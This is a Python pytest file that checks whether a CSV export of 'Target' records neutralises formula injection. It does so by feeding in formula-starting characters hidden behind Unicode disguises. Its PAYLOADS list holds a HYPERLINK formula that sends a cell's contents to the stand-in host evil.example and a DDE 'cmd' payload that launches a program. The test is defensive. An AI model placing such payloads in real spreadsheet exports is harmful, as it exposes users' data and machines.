"""Issue 11, item 10: no Targets CSV cell can start a formula, however its start is disguised.

The CSV is read back with the csv module, as a spreadsheet's import does, and every cell is
judged by the leading-character rules spreadsheets apply (OWASP's CSV injection list: = + - @,
tab and CR; and what some look past or fold: spaces, NBSP, line feeds, zero-width spaces, a BOM,
full-width and small forms). The rules here are written out on their own, not taken from the code.
"""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from core import exports
from core.models import Target

pytestmark = pytest.mark.reliability

FORMULA_CHARACTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212"]
DISGUISES = {
    "none": "",
    "space": " ",
    "spaces": "   ",
    "line feed": "\n",
    "CR LF": "\r\n",
    "tab": "\t",
    "NBSP": "\u00a0",
    "zero-width space": "\u200b",
    "BOM": "\ufeff",
    "ideographic space": "\u3000",
    "word joiner": "\u2060",
    "mixed": " \u200b\u00a0\n",
}
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"Open")', "cmd|' /C calc'!A0", "1+1"]
COLUMNS = ("company", "why", "role", "next_step")  # the free-text columns a person types
HARMLESS = ["Acme", "café — Zoë's team", "3-year plan", "a+b", "user@example.org", "'quoted", "ok = fine"]


def runs_as_formula(cell: str) -> bool:
    """How a spreadsheet decides: the first character that shows, folded, starts a formula."""
    if cell.startswith(("\t", "\r")):
        return True
    for char in cell:
        if char.isspace() or unicodedata.category(char) in {"Zs", "Zl", "Zp", "Cc", "Cf"}:
            continue
        if char == "'":
            return False  # an apostrophe first: text
        return unicodedata.normalize("NFKC", char)[0] in "=+-@\u2212"
    return False


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_disguised_formula_reaches_a_spreadsheet_and_every_other_cell_is_unchanged(figures):
    cells = through = changed = 0
    for disguise in DISGUISES.values():
        for start in FORMULA_CHARACTERS:
            for payload in PAYLOADS:
                value = disguise + start + payload
                target = Target(**{column: value for column in COLUMNS})
                [_header, row] = read_cells(exports.targets_csv([target]))
                for key, cell in zip(exports.COLUMNS, row, strict=False):  # the CSV's order
                    if key not in COLUMNS:
                        continue
                    cells += 1
                    through += runs_as_formula(cell)
                    stored = getattr(target, key)
                    # Neutralised by one leading apostrophe, nothing else touched.
                    changed += cell.replace("\r\n", "\n") != ("'" + stored).replace("\r\n", "\n")
    harmless_changed = 0
    for text in HARMLESS:
        [_header, row] = read_cells(exports.targets_csv([Target(company=text, why=text)]))
        harmless_changed += row[0] != text or row[1] != text
    figures(
        cells_tried=cells,
        disguises=len(DISGUISES),
        formula_characters=len(FORMULA_CHARACTERS),
        formulas_through=through,
        altered_beyond_the_apostrophe=changed,
        harmless_cells_changed=harmless_changed,
    )
    assert through == 0
    assert changed == 0
    assert harmless_changed == 0
